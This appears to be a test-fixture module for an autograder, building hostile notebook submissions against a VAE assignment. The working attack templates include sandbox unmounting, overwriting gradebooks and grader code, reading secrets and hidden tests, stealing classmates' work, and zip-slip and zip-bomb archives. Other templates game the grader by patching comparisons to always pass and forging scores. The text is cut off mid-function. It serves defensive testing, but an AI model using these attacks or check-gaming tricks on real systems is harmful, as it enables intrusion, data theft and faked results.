"""Hostile and broken submissions, one per attack, built from the release or the solution.

Each notebook attack is code planted in a copy of one of three honest notebooks, and says what
it may earn:

- "stub": the release as students get it: every attacked part must earn nothing;
- "partial": the release with 2a (Encoder, Decoder) and the KL divergence solved, which honestly
  earns PARTIAL_SCORES (9 points): an attack planted there must keep exactly that;
- "solution": the release with every solution cell solved (31 points; the honest student).

Code is planted "at import" (top of the first solution cell: a plain assignment there is also part
of the definitions the hidden checks run), "in any cell" (a cell of the student's own), or inside a
graded function (`kl_divergence`, which the hidden checks call in their sandbox on its own).
Attack code is a template: $course, $repo, $secret_name, $port, $honest... are filled in by
`write_hostile_downloads` with the paths and values of the class being graded.

Broken files are written as bytes, and zips as zips. Everything here is deliberately small and
bounded: 300 sleeping children, never a fork bomb; a zip bomb that stops at the collector's cap.
"""
from __future__ import annotations

import copy
import io
import stat
import warnings
import zipfile
from dataclasses import dataclass
from pathlib import Path
from string import Template
from typing import Callable

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

from assignment import notebooks
from assignment.paths import RELEASE_NOTEBOOK, SOURCE_NOTEBOOK

FULL_SCORES = {"p2a_architecture": 6.0, "p2b_forward_shapes": 1.0, "p2c_train_autoencoder": 6.0,
               "p2e_sample_prior": 2.0, "p3a_kl_divergence": 2.0, "p3a_reparameterize": 2.0, "p3a_vae_loss": 3.0,
               "p3b_train_vae": 4.0, "p3d_best_beta": 3.0, "p4_interpolate": 2.0}
ZERO_SCORES = {grade_id: 0.0 for grade_id in FULL_SCORES}
PARTIAL_SOLVED = ("p2a_encoder_decoder_solution", "p3a_kl_divergence_solution")
PARTIAL_SCORES = {**ZERO_SCORES, "p2a_architecture": 6.0, "p2b_forward_shapes": 1.0, "p3a_kl_divergence": 2.0}
BASE_SCORES = {"stub": ZERO_SCORES, "partial": PARTIAL_SCORES, "solution": FULL_SCORES}
CHECK_CELLS = tuple(FULL_SCORES)
SLEEP_MARKER = "987654"       # `sleep 987654`: the children an attack leaves behind, easy to find if they survive
PWNED = "PWNED-BY-A-HOSTILE-SUBMISSION"   # written into any file an attack manages to change


# Building notebooks ------------------------------------------------------------------------------

def _cell(nb: NotebookNode, grade_id: str) -> NotebookNode:
    return notebooks.cells_by_grade_id(nb)[grade_id]


def _index(nb: NotebookNode, grade_id: str) -> int:
    return [notebooks.nbgrader_meta(c).get("grade_id") for c in nb.cells].index(grade_id)


def solution_source(grade_id: str) -> str:
    """The instructor's code of a solution cell, without the BEGIN/END SOLUTION markers."""
    source = _cell(notebooks.read(SOURCE_NOTEBOOK), grade_id).source
    return "\n".join(line for line in source.splitlines() if "### BEGIN SOLUTION" not in line
                     and "### END SOLUTION" not in line)


def solved(grade_ids, marker: str = "") -> NotebookNode:
    """The release with these solution cells solved (as a student would: the release's cells, own code)."""
    nb = notebooks.read(RELEASE_NOTEBOOK)
    for grade_id in grade_ids:
        _cell(nb, grade_id).source = solution_source(grade_id) + (f"\n# {marker}" if marker else "")
    return nb


def solution_cell_ids() -> list[str]:
    release = notebooks.read(RELEASE_NOTEBOOK)
    return [notebooks.nbgrader_meta(c)["grade_id"] for c in release.cells
            if c.cell_type == "code" and notebooks.nbgrader_meta(c).get("solution")]


def base_notebook(base: str, marker: str = "") -> NotebookNode:
    if base == "stub":
        return notebooks.read(RELEASE_NOTEBOOK)
    if base == "partial":
        return solved(PARTIAL_SOLVED, marker)
    return solved(solution_cell_ids(), marker)


def at_import(code: str) -> Callable:
    """Plant `code` at the top of the first solution cell."""
    def plant(nb: NotebookNode) -> None:
        cell = _cell(nb, "p2a_encoder_decoder_solution")
        cell.source = code + "\n\n" + cell.source
    return plant


def own_cell_after(grade_id: str, code: str) -> Callable:
    """Plant `code` as a cell of the student's own, right after the cell `grade_id`."""
    def plant(nb: NotebookNode) -> None:
        nb.cells.insert(_index(nb, grade_id) + 1, new_code_cell(code))
    return plant


def replace_cell(grade_id: str, code: str) -> Callable:
    def plant(nb: NotebookNode) -> None:
        _cell(nb, grade_id).source = code
    return plant


def in_kl_divergence(body: str, then_honest: bool = False) -> Callable:
    """`kl_divergence` runs `body` first (the hidden checks call it in their sandbox, the kernel in a check cell)."""
    lines = solution_source("p3a_kl_divergence_solution").splitlines()
    honest = [line for line in lines[2:] if line.strip() and not line.strip().startswith('"""')]   # after the signature
    code = ("def kl_divergence(mu1, log_sigma1, mu2, log_sigma2):\n"
            + "\n".join("    " + line for line in body.strip("\n").splitlines()) + "\n"
            + ("\n".join(honest) if then_honest else "    raise NotImplementedError()") + "\n")
    return replace_cell("p3a_kl_divergence_solution", code)


def every(*plants: Callable) -> Callable:
    def plant(nb: NotebookNode) -> None:
        for p in plants:
            p(nb)
    return plant


def edit_metadata(grade_ids, **changes) -> Callable:
    def plant(nb: NotebookNode) -> None:
        for grade_id in grade_ids:
            _cell(nb, grade_id).metadata.nbgrader.update(changes)
    return plant


def rename_grade_ids(grade_ids) -> Callable:
    def plant(nb: NotebookNode) -> None:
        for grade_id in grade_ids:
            _cell(nb, grade_id).metadata.nbgrader["grade_id"] = grade_id + "_mine"
    return plant


def delete_cells(grade_ids) -> Callable:
    def plant(nb: NotebookNode) -> None:
        for grade_id in grade_ids:
            nb.cells.remove(_cell(nb, grade_id))
    return plant


def duplicate_cells(grade_ids) -> Callable:
    """Copies of these cells right after them (same cell id and metadata, as Colab's copy and paste makes)."""
    def plant(nb: NotebookNode) -> None:
        for grade_id in grade_ids:
            index = _index(nb, grade_id)
            nb.cells.insert(index + 1, copy.deepcopy(nb.cells[index]))
    return plant


# What each attack does ----------------------------------------------------------------------------

@dataclass(frozen=True)
class Attack:
    name: str                       # the student id (file <name>_vae.ipynb)
    what: str                       # in plain words
    base: str                       # stub | partial | solution
    plant: Callable[[NotebookNode], None]
    lost: tuple[str, ...] = ()      # parts the attack honestly breaks (they earn 0 even on a solved base)
    report: tuple[str, ...] = ()    # words the student's report must contain (status, reason, notes, repairs)
    flags: tuple[str, ...] = ()     # words the TA's flags must contain (tampering)

    def expected_scores(self) -> dict[str, float]:
        return {g: (0.0 if g in self.lost else s) for g, s in BASE_SCORES[self.base].items()}


def _patch(name: str, what: str, code: str) -> Attack:
    """A monkeypatch planted both at import and in a cell of the student's own before the check cells."""
    return Attack(name, what, "stub", every(at_import(code), own_cell_after("setup", code)))


TRY = '''
def _attempt(what, action):
    try:
        result = action()
        print("ATTACK SUCCEEDED:", what, repr(result)[:200])
        return result
    except BaseException as e:
        print("attack failed:", what, type(e).__name__)
'''

# Reused by the kernel (a cell of its own) and the hidden checks' sandbox (inside kl_divergence).
OVERWRITE = TRY + r'''
import glob, os
_targets = ["$repo/solutions/vae/vae.ipynb", "$repo/autograder/sandbox/policy.py", "$repo/autograder/checks/conftest.py",
            "$repo/autograder/grading/run_checks.py",
            "$repo/tests/conftest.py", "$repo/gradebook.db", "$course/gradebook.db", "$course/grading/manifest.json",
            "$course/downloads/${honest}_vae.ipynb", "$course/submitted/$honest/vae/vae.ipynb",
            "$course/grading/reports/$honest.json", "$canary", "../../../gradebook.db", "../../../../gradebook.db"]
_targets += glob.glob("/tmp/vae-class-*/*/gradebook.db") + glob.glob("/tmp/vae-class-*/template-course/gradebook.db")
_targets += glob.glob("/tmp/vae-class-*/*/submitted/*/vae/vae.ipynb") + glob.glob("/proc/*/cwd/gradebook.db")
for _path in _targets:
    if _path.endswith(".py"):   # a comment line is harmless if it ever got through
        _attempt("append to " + _path, lambda: open(_path, "a").write("\n# $pwned\n"))
    else:
        _attempt("overwrite " + _path, lambda: open(_path, "r+b").write(b"$pwned"))
for _folder in ("$repo", "$repo/autograder", "$repo/solutions", "$course", "$course/downloads", "/var/tmp"):
    _attempt("create a file in " + _folder, lambda: open(_folder + "/PWNED_$name.txt", "w").write("$pwned"))
_attempt("delete the canary", lambda: os.remove("$canary"))
'''

# Undo the sandbox's mounts first (what a jail that lets its code keep capabilities allows), then overwrite.
UNMOUNT = TRY + r'''
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
def _ok(result):
    if result != 0:
        raise OSError(ctypes.get_errno(), "refused")
for _point in reversed([_line.split()[4] for _line in open("/proc/self/mountinfo")]):
    _attempt("umount " + _point, lambda: _ok(_libc.umount2(_point.encode(), 2)))
_attempt("remount / read-write", lambda: _ok(_libc.mount(None, b"/", None, 32, None)))
_attempt("remount /usr read-write", lambda: _ok(_libc.mount(None, b"/usr", None, 32 | 4096, None)))
_attempt("unshare a user namespace", lambda: _ok(_libc.unshare(0x10000000)))
''' + OVERWRITE

READ = TRY + r'''
import glob, os
_found = []
for _pattern in ["$repo/solutions/vae/vae.ipynb", "$repo/gradebook.db", "$course/gradebook.db",
                 "$course/downloads/*", "$course/submitted/*/vae/vae.ipynb", "$course/grading/reports/*.json",
                 "../../../gradebook.db", "/tmp/vae-class-*/*/gradebook.db", "/tmp/vae-class-*/*/submitted/*/vae/vae.ipynb",
                 "/proc/*/cwd/gradebook.db", "/proc/*/root$course/gradebook.db", "$repo/autograder/checks/*.py"]:
    for _path in glob.glob(_pattern):
        _text = _attempt("read " + _path, lambda: open(_path, errors="replace").read())
        if _text:
            _found.append(_text)
_leak = " ".join(_found)
for _word in ("BEGIN " + "HIDDEN TESTS", "BEGIN " + "SOLUTION", "$marker_head" + "$marker_tail"):   # split: a traceback
    if _word in _leak:                                                                       # of this cell leaks nothing
        print("LEAK" + "ED:", _leak[max(0, _leak.index(_word) - 200):_leak.index(_word) + 500])
'''

STEAL = r'''
import glob, json, ast
def _stolen():
    """The definitions of any solved notebook this code can find: another student's, or the instructor's."""
    patterns = ["$course/downloads/*.ipynb", "$course/submitted/*/vae/vae.ipynb", "$course/autograded/*/vae/vae.ipynb",
                "$course/grading/originals/*/*", "$repo/solutions/vae/vae.ipynb", "/tmp/vae-class-*/*/submitted/*/vae/vae.ipynb",
                "/proc/*/root$course/downloads/*.ipynb", "/proc/*/cwd/submitted/*/vae/vae.ipynb"]
    for pattern in patterns:
        for path in glob.glob(pattern):
            try:
                nb = json.load(open(path))
            except Exception:
                continue
            ns = {}
            exec("import math, torch\nimport torch.nn as nn\nimport torch.nn.functional as F\n"
                 "from torch.utils.data import DataLoader, TensorDataset", ns)
            for cell in nb.get("cells", []):
                source = "".join(cell.get("source", ""))
                if cell.get("cell_type") != "code" or "kl_divergence" not in source and "class Encoder" not in source:
                    continue
                try:
                    tree = ast.parse(source)
                except SyntaxError:
                    continue
                keep = [s for s in tree.body if isinstance(s, (ast.FunctionDef, ast.ClassDef, ast.Import, ast.ImportFrom))]
                exec(compile(ast.Module(keep, []), path, "exec"), ns)
            if "kl_divergence" in ns or "Encoder" in ns:
                print("STOLEN" + " FROM", path)
                return ns
    raise RuntimeError("found nothing to copy")

class Encoder:
    def __new__(cls, *args, **kwargs):
        return _stolen()["Encoder"](*args, **kwargs)

class Decoder:
    def __new__(cls, *args, **kwargs):
        return _stolen()["Decoder"](*args, **kwargs)

def kl_divergence(*args):
    return _stolen()["kl_divergence"](*args)
'''

NETWORK = TRY + r'''
import socket
_attempt("connect to the grader's machine", lambda: socket.create_connection(("127.0.0.1", $port), timeout=3).send(b"$pwned"))
_attempt("connect to the internet", lambda: socket.create_connection(("1.1.1.1", 53), timeout=3))
_attempt("resolve a name", lambda: socket.gethostbyname("example.com"))
'''

SECRETS = TRY + r'''
import glob, os
print("my environment:", sorted(os.environ))
if "$secret_name" in os.environ:
    print("LEAK" + "ED:", os.environ["$secret_name"])
for _path in glob.glob("/proc/*/environ"):
    _data = _attempt("read " + _path, lambda: open(_path, "rb").read())
    if _data and b"$secret_name" in _data:
        print("LEAK" + "ED:", _data[_data.index(b"$secret_name"):][:80])
'''

SYMLINKS_KERNEL = TRY + r'''
import os
_here = os.getcwd()
_attempt("point my autograded notebook at the canary", lambda: os.symlink("$canary", os.path.join(_here, "vae.ipynb")))
_attempt("point my autograded folder at another student's", lambda: (os.rename(_here, _here + ".old"),
         os.symlink("$course/submitted/$honest/vae", _here)))
'''

# In the hidden checks' sandbox: links where the grader reads the probe's results, and a FIFO to block it.
SYMLINKS_PROBE = TRY + r'''
import os
_attempt("link the error report to another student's", lambda: os.symlink("$course/grading/reports/$honest.json", "error.json"))
_attempt("link the output log to the canary", lambda: (os.remove("output.log"), os.symlink("$canary", "output.log")))
_attempt("plant a FIFO for the results", lambda: os.mkfifo("result.pt"))
os._exit(0)
'''

HOME_AND_SOCKETS = TRY + r'''
import glob, os, socket
for _path in glob.glob("$home/.*") + glob.glob("$home/*"):
    if "vae-hostile-token" in _path:
        _token = _attempt("read the grader's token " + _path, lambda: open(_path).read())
        if _token:
            print("LEAK" + "ED:", _token)
for _path in glob.glob("/run/**", recursive=True) + glob.glob("/var/run/*") + glob.glob("/tmp/**", recursive=True):
    if os.path.exists(_path) and __import__("stat").S_ISSOCK(os.stat(_path).st_mode):
        def _connect():
            client = socket.socket(socket.AF_UNIX)
            client.connect(_path)
            client.send(b"$pwned")
        _attempt("connect to the machine's socket " + _path, _connect)
'''

FORK_MANY = r'''
import subprocess
_children = [subprocess.Popen(["sleep", "$sleep"], start_new_session=True) for _ in range($count)]
print(len(_children), "children left sleeping")
'''

LIARS = r'''
class AlwaysEqual(torch.Tensor):
    """A tensor whose every comparison succeeds."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __abs__(self): return self
    def __bool__(self): return True
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "isclose", "all", "any"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

def kl_divergence(mu1, log_sigma1, mu2, log_sigma2):
    return (0 * mu1).as_subclass(AlwaysEqual)

def interpolate(model, x_start, x_end, steps):
    return torch.zeros(steps, 1, 28, 28).as_subclass(AlwaysEqual)
'''

AGREEABLE = r'''
class Agreeable:
    """Not a tensor at all: it claims every shape and equals everything."""
    shape = torch.Size([3])
    def __eq__(self, other): return True
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    def __float__(self): return 2.194528
    def __getattr__(self, name): return lambda *a, **k: self
    def __getitem__(self, key): return self

def kl_divergence(mu1, log_sigma1, mu2, log_sigma2):
    return Agreeable()
'''

FLOAT_LIAR = r'''
class Expected(float):
    """A float whose float() is whatever the grader would expect."""
    def __float__(self): return 2.0
    def item(self): return 2.0

def kl_divergence(mu1, log_sigma1, mu2, log_sigma2):
    return Expected(-1.0)

def train_autoencoder(model, loader, epochs, lr, device):
    return [Expected(100.0 - i) for i in range(epochs * len(loader))]
'''

HARD_CODED = r'''
def kl_divergence(mu1, log_sigma1, mu2, log_sigma2):
    # The closed-form answer of the first case in the notebook's own check (+ 0 * mu1: it even has a gradient).
    return torch.full_like(mu1, 2.194528) + 0 * mu1

def sample_prior(decoder, n, nz, generator=None):
    return torch.rand(n, 1, 28, 28, generator=generator)

def interpolate(model, x_start, x_end, steps):
    return torch.linspace(0, 1, steps).view(steps, 1, 1, 1).expand(steps, 1, 28, 28)
'''

HOOKS = r'''
import sys
ip = get_ipython()
ip.showtraceback = lambda *a, **k: print("All checks passed!")
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: print("All checks passed!"))
sys.excepthook = lambda *a: print("All checks passed!")
ip.display_pub.publish = lambda *a, **k: None
ip.displayhook.write_output_prompt = lambda *a, **k: None
'''

PYTEST_INTERNALS = r'''
import sys, types
_fake = types.ModuleType("pytest")
_fake.fail = lambda *a, **k: None
_fake.approx = lambda expected, *a, **k: types.SimpleNamespace(__eq__=lambda self, other: True)
_fake.main = lambda *a, **k: 0
sys.modules["pytest"] = _fake
sys.modules["_pytest"] = _fake
sys.modules["_pytest.outcomes"] = _fake
'''

# An iopub "error" message without its fields, attributed to the running cell: nbclient's reader raises
# KeyError on it, which used to end the student's whole grading.
MALFORMED_MESSAGE = r'''
_ip = get_ipython()
_ip.kernel.session.send(_ip.kernel.iopub_socket, "error", {}, parent=_ip.kernel.get_parent("shell"))
'''

HUGE_OUTPUT = r'''
import sys
sys.stdout.write("x" * 50_000_000)
sys.stdout.flush()
for _ in range(20000):
    print("line of output")
"y" * 20_000_000
'''

ALL_PASSED = 'print("All checks passed! 45/45 points")\nprint("Hidden checks of p2a_architecture: 5 of 5 passed, 6 of 6 points.")'

RESULTS_FILES = TRY + r'''
import json, os
_forged = json.dumps({"score": 45, "tests": [{"name": "all", "score": 45, "max_score": 45}]})
for _path in ("results.json", "/autograder/results/results.json", "../../../results.json", "$course/grading/reports/$name.json",
              os.path.expanduser("~/results.json"), "/tmp/results.json", "../../../autograded/$name/vae/vae.ipynb"):
    _attempt("write " + _path, lambda: open(_path, "w").write(_forged))
'''

MEMORY = r'''
_hoard = []
try:
    while True:
        _hoard.append(bytearray(256 * 2**20))   # far past the machine's memory, 256 MiB at a time
except MemoryError:
    print("stopped at", len(_hoard) * 256, "MiB")
del _hoard
_big = torch.empty(2**40, dtype=torch.uint8)   # a terabyte at once
'''

SLEEPING_THREAD = r'''
import threading, time
threading.Thread(target=time.sleep, args=(10**7,), daemon=False).start()
'''


# Writes 1 MiB files into the folder it shares with the grader (the kernel's sockets folder, named by `-f` on
# its command line; a probe's folder), at most FILL_BOUND_MIB of them, until the disk is full; removes them
# and says how much it could write: "FILLED kernel: 1 MiB (No space left on device)".
FILL_BOUND_MIB = 1024
FILL_DISK = r"""
import os, sys
_where = os.path.dirname(sys.argv[sys.argv.index("-f") + 1]) if "-f" in sys.argv else os.getcwd()
_place = "kernel" if "-f" in sys.argv else "probe"
_written, _said, _chunk = 0, "no error", b"x" * 2**20
try:
    for _n in range($bound):
        with open(os.path.join(_where, f"fill-{_n}"), "wb") as _f:
            _f.write(_chunk)
        _written += 1
except OSError as _e:
    _said = _e.strerror
finally:
    for _n in range($bound):
        try:
            os.unlink(os.path.join(_where, f"fill-{_n}"))
        except OSError:
            pass
_filled = f"FILLED {_place}: {_written} MiB ({_said})"
print(_filled)
""".replace("$bound", str(FILL_BOUND_MIB))

def attacks() -> list[Attack]:
    """Every notebook attack, with what it may earn and what its report must say."""
    return [
        # Monkeypatching what checks use, at import and in cells of the student's own.
        _patch("patch_torch_allclose", "replaces torch.allclose by a function that always agrees",
               "import torch\ntorch.allclose = lambda *args, **kwargs: True"),
        _patch("patch_tensor_eq", "makes every tensor equal to every other",
               "import torch\ndef _always_equal(self, other):\n    return torch.ones_like(self, dtype=torch.bool)\n\n"
               "torch.Tensor.__eq__ = _always_equal\ntorch.equal = lambda *args: True"),
        _patch("patch_builtins_abs", "makes abs() return 0",
               "import builtins\nbuiltins.abs = lambda x: 0"),
        _patch("patch_math_isclose", "makes math.isclose always true",
               "import math\nmath.isclose = lambda *args, **kwargs: True"),
        _patch("patch_subprocess_run", "fakes subprocess.run to report success",
               "import subprocess\ndef _passed(*args, **kwargs):\n"
               "    return subprocess.CompletedProcess(args[0] if args else '', 0, b'45 passed', b'')\n\n"
               "subprocess.run = _passed\nsubprocess.check_output = _passed"),
        Attack("patch_ipython_hooks", "silences tracebacks and display, prints success instead", "stub",
               own_cell_after("setup", HOOKS)),
        _patch("patch_pytest_internals", "replaces pytest in sys.modules", PYTEST_INTERNALS),

        # Objects that lie, in a stub: nothing may be earned.
        Attack("liar_tensor_subclass", "returns a tensor subclass whose comparisons always succeed", "stub",
               every(replace_cell("p3a_kl_divergence_solution", LIARS),
                     own_cell_after("p3a_kl_divergence_solution", "torch.allclose(kl_divergence(0, 0, 0, 0), torch.ones(3))"))),
        Attack("liar_agreeable_object", "returns an object that claims every shape and equals everything", "stub",
               replace_cell("p3a_kl_divergence_solution", AGREEABLE)),
        Attack("liar_float", "returns floats whose float() is the expected value", "stub",
               every(replace_cell("p3a_kl_divergence_solution", FLOAT_LIAR))),
        Attack("hard_coded_answers", "returns hard-coded known answers instead of computing them", "stub",
               every(replace_cell("p3a_kl_divergence_solution", HARD_CODED),
                     replace_cell("p3d_tuning_solution", "best_beta = 1.0   # the well-known answer, no search"))),

        # Forged results.
        Attack("forged_all_passed", "prints 'All checks passed' everywhere", "stub",
               every(*(own_cell_after(g, ALL_PASSED) for g in CHECK_CELLS))),
        Attack("forged_score_in_check_cell", "edits every check cell to print a full score and return it", "stub",
               every(*(replace_cell(g, f'print("{FULL_SCORES[g]:g} of {FULL_SCORES[g]:g} points")\n{FULL_SCORES[g]:g}')
                       for g in CHECK_CELLS)),
               flags=("check cell p2a_architecture had been edited",)),
        Attack("forged_results_file", "writes fake results files where graders look", "stub",
               own_cell_after("setup", RESULTS_FILES)),
        Attack("edited_check_cells", "empties every check cell", "stub",
               every(*(replace_cell(g, "pass") for g in CHECK_CELLS)),
               flags=("check cell p3a_vae_loss had been edited",)),
        Attack("deleted_check_cells", "deletes every check cell", "stub", delete_cells(CHECK_CELLS),
               report=("the check cell p2a_architecture was missing: restored it from the release",),
               flags=("check cell p2a_architecture had been deleted",)),
        Attack("points_raised", "sets every check cell to 100 points", "partial",
               edit_metadata(CHECK_CELLS, points=100), report=("restored its nbgrader metadata",),
               flags=("nbgrader metadata of p2a_architecture had been changed (points 100 -> 6)",)),
        Attack("grade_false", "marks every check cell as not graded", "partial",
               edit_metadata(CHECK_CELLS, grade=False), flags=("nbgrader metadata of p3a_kl_divergence had been changed",)),
        Attack("grade_ids_renamed", "renames the grade ids of the check cells", "partial",
               rename_grade_ids(CHECK_CELLS), report=("matched it by content",),
               flags=("grade id of cell p2a_architecture was changed",)),
        Attack("duplicated_cells", "duplicates every check cell and the solved cells", "partial",
               duplicate_cells(CHECK_CELLS + PARTIAL_SOLVED), report=("appeared 2 times",)),

        # Escapes and exhaustion.
        Attack("sys_exit", "calls sys.exit(0) at import and in a cell", "partial",
               every(at_import("import sys\nsys.exit(0)"), own_cell_after("p2a_architecture", "import sys\nsys.exit(0)"))),
        Attack("os_exit", "ends its kernel with os._exit(0) before the check cells", "partial",
               own_cell_after("p2a_architecture", "import os\nos._exit(0)"),
               report=("kernel died while the grader ran a cell of your own after p2a_architecture",)),
        Attack("kill_self", "sends SIGKILL to its own process, in a cell and in a graded function", "partial",
               every(own_cell_after("setup", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
                     in_kl_divergence("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", then_honest=True)),
               lost=("p3a_kl_divergence",)),
        Attack("endless_loop_in_cell", "loops forever at top level, ignoring interrupts", "stub",
               own_cell_after("setup", "while True:\n    try:\n        pass\n    except KeyboardInterrupt:\n        pass"),
               report=("did not finish within the time limit",)),
        Attack("endless_loop_in_function", "loops forever inside a graded function", "partial",
               in_kl_divergence("while True:\n    pass"), lost=("p3a_kl_divergence",),
               report=("did not finish within the time limit",)),
        Attack("memory_blow_up", "allocates far more memory than the machine has, in a cell and a graded function",
               "partial", every(own_cell_after("setup", MEMORY), in_kl_divergence(MEMORY)),
               lost=("p3a_kl_divergence",)),
        Attack("many_processes", "leaves 300 sleeping children in its kernel and 50 in a graded function", "partial",
               every(own_cell_after("setup", Template(FORK_MANY).safe_substitute(count=300)),
                     in_kl_divergence(Template(FORK_MANY).safe_substitute(count=50), then_honest=True))),
        Attack("malformed_message", "sends nbgrader an error message without its fields from its kernel", "partial",
               own_cell_after("p2a_architecture", MALFORMED_MESSAGE),
               report=("the kernel sent a message the grader could not read",)),
        Attack("huge_output", "prints 50 MB and 20,000 lines, and returns a 20 MB string", "stub",
               own_cell_after("setup", HUGE_OUTPUT)),
        Attack("fill_disk", "writes files into every folder it shares with the grader until the disk is full",
               "partial", every(own_cell_after("setup", FILL_DISK),
                                in_kl_divergence(FILL_DISK + "raise RuntimeError(_filled)")),
               lost=("p3a_kl_divergence",)),
        Attack("sleeping_thread", "leaves a thread sleeping forever, in its kernel and in a graded function", "partial",
               every(own_cell_after("setup", SLEEPING_THREAD), in_kl_divergence(SLEEPING_THREAD, then_honest=True))),

        # Reaching out of the notebook.
        Attack("overwrite_files", "tries to overwrite solutions, grading code, gradebooks and others' work", "stub",
               every(own_cell_after("setup", OVERWRITE), in_kl_divergence(OVERWRITE))),
        Attack("unmount_then_overwrite", "undoes the sandbox's mounts, then overwrites the grader and others' work",
               "stub", every(own_cell_after("setup", UNMOUNT), in_kl_divergence(UNMOUNT))),
        Attack("read_secrets_files", "tries to read solutions, hidden tests, gradebooks and reports", "stub",
               every(own_cell_after("setup", READ), in_kl_divergence(READ + "\nraise RuntimeError(_leak[:400])"))),
        Attack("steal_other_students_work", "copies a solved notebook it finds on the machine", "stub",
               every(replace_cell("p2a_encoder_decoder_solution", STEAL), replace_cell("p3a_kl_divergence_solution", "pass"),
                     own_cell_after("setup", STEAL + "\n_attempt = _stolen()"))),
        Attack("network", "opens network connections (the grader's machine, the internet, DNS)", "stub",
               every(own_cell_after("setup", NETWORK), in_kl_divergence(NETWORK))),
        Attack("environment_secrets", "looks for secrets in environment variables", "stub",
               every(own_cell_after("setup", SECRETS),
                     in_kl_divergence(SECRETS + "\nraise RuntimeError(' '.join(sorted(os.environ)))"))),
        Attack("home_and_sockets", "reads the grader's home folder and connects to the machine's UNIX sockets", "stub",
               every(own_cell_after("setup", HOME_AND_SOCKETS), in_kl_divergence(HOME_AND_SOCKETS))),
        Attack("symlink_planting", "plants links and a FIFO where the grader writes and reads", "stub",
               every(own_cell_after("setup", SYMLINKS_KERNEL), in_kl_divergence(SYMLINKS_PROBE))),
    ]


# Broken files ----------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Broken:
    name: str              # file name in the downloads
    what: str
    reason: str            # words of the reason it is not gradable, or not collected
    collected: bool = True  # False: rejected before grading (the class report lists it as not collected)
    graded_as_stub: bool = False   # readable after all: graded like the release


def _v3(release: NotebookNode) -> bytes:
    return nbformat.writes(nbformat.convert(copy.deepcopy(release), 3), version=3).encode()


def _huge(release: NotebookNode) -> bytes:
    nb = copy.deepcopy(release)
    cell = _cell(nb, "setup")
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="A" * 100_000_000)]
    return nbformat.writes(nb).encode()


def _zip(members: dict[str, bytes], symlinks: dict[str, str] = {}) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        for name, target in symlinks.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, target)
    return buffer.getvalue()


def _zip_bomb() -> bytes:
    """A zip of 300 KB whose notebook unpacks to 300 MiB of zeros (more than a notebook may be)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("bomb_vae.ipynb")
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as member:
            chunk = b"\0" * 2**20
            for _ in range(300):
                member.write(chunk)
    return buffer.getvalue()


BROKEN = [
    Broken("invalid_json_vae.ipynb", "a notebook cut short (invalid JSON)", "not valid notebook JSON"),
    Broken("renamed_script_vae.ipynb", "a Python script renamed .ipynb", "not valid notebook JSON"),
    Broken("png_renamed_vae.ipynb", "a PNG image renamed .ipynb", "not UTF-8"),
    Broken("format3_vae.ipynb", "the release saved in nbformat 3", "converted the notebook from format 3",
           graded_as_stub=True),
    Broken("latin1_vae.ipynb", "a notebook saved as Latin-1, not UTF-8", "not UTF-8"),
    Broken("empty_file_vae.ipynb", "an empty file", "the file is empty"),
    Broken("no_cells_vae.ipynb", "a notebook without cells", "has no cells"),
    Broken("huge_vae.ipynb", "the release with a 100 MB output (about 100 MB)", "", graded_as_stub=True),
    Broken("zip_slip.zip", "a zip whose notebook's path is ../../x_vae.ipynb", "leads outside the zip", collected=False),
    Broken("zip_symlink.zip", "a zip whose notebook is a symbolic link", "symbolic link", collected=False),
    Broken("zip_bomb.zip", "a zip whose notebook unpacks to 300 MiB", "unpacks to more than", collected=False),
]


def broken_bytes(name: str, release: NotebookNode) -> bytes:
    text = nbformat.writes(release)
    return {
        "invalid_json_vae.ipynb": lambda: text[: len(text) // 2].encode(),
        "renamed_script_vae.ipynb": lambda: b"import torch\nprint('my VAE')\n",
        "png_renamed_vae.ipynb": lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
        "format3_vae.ipynb": lambda: _v3(release),
        "latin1_vae.ipynb": lambda: text.replace("Variational", "Variational \u00e9t\u00e9").encode("latin-1", errors="replace"),
        "empty_file_vae.ipynb": lambda: b"",
        "no_cells_vae.ipynb": lambda: nbformat.writes(nbformat.v4.new_notebook()).encode(),
        "huge_vae.ipynb": lambda: _huge(release),
        "zip_slip.zip": lambda: _zip({"../../x_vae.ipynb": text.encode()}),
        "zip_symlink.zip": lambda: _zip({}, symlinks={"linked_vae.ipynb": "/work/main/solutions/vae/vae.ipynb"}),
        "zip_bomb.zip": _zip_bomb,
    }[name]()


# The downloads folder of the hostile class ------------------------------------------------------------

@dataclass
class Context:
    """Paths and values the attacks aim at (filled into their code)."""
    course: Path
    repo: Path
    home: Path             # the grading user's home folder (a token file is planted there)
    canary: Path
    secret_name: str
    port: int
    honest: str            # the student whose solved notebook others try to steal or destroy
    marker: str            # a comment only in that student's notebook

    def fill(self, code: str, name: str) -> str:
        half = len(self.marker) // 2
        return Template(code).safe_substitute(course=self.course, repo=self.repo, home=self.home, canary=self.canary,
                                              secret_name=self.secret_name, port=self.port, honest=self.honest,
                                              marker_head=self.marker[:half], marker_tail=self.marker[half:],
                                              pwned=PWNED, name=name, sleep=SLEEP_MARKER)


def build_attack(attack: Attack, context: Context) -> NotebookNode:
    nb = base_notebook(attack.base)
    planted = copy.deepcopy(nb)
    attack.plant(planted)
    for cell in planted.cells:
